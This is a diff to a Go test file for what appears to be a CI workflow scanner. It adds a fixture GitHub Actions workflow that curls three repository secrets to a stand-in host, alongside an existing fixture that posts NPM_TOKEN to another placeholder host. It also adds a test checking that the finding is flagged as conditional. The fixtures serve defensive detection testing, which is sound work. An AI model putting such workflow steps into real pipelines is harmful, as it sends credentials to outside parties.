@@ -38,6 +38,13 @@ jobs:
     steps:
       - run: curl -s -X POST -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://sink.example.invalid
 `
+	tryNew = `on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: curl -d 'a=${{ secrets.ONE }}&b=${{ secrets.TWO }}&c=${{ secrets.THREE }}' https://collect.example.invalid/v1/in
+`
 	tryPlain = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
 )
 
@@ -89,6 +96,19 @@ func TestTryDocument(t *testing.T) {
 	}
 	if broken.Partial == nil || broken.Error != nil {
 		t.Errorf("%+v", broken)
+	}
+}
+
+// A rule that asks for what was before is shown with what it asks for, and does not count as a hit.
+func TestTryConditional(t *testing.T) {
+	files := map[string]string{"new.yml": tryNew}
+	code, out, errs := tryIn(t, files, "new.yml")
+	if code != exitDone || !strings.Contains(out, "heuristic/secret-to-network") || !strings.Contains(out, "new-host") ||
+		!strings.Contains(errs, "0 hit with high confidence") || !strings.Contains(errs, "1 only where") {
+		t.Errorf("exit %d: %s\n%s", code, errs, out)
+	}
+	if _, out, _ = tryIn(t, files, "--json", "new.yml"); !strings.Contains(out, `"where_all": [`) || !strings.Contains(out, `"conditional": 1`) {
+		t.Error(out)
 	}
 }
 
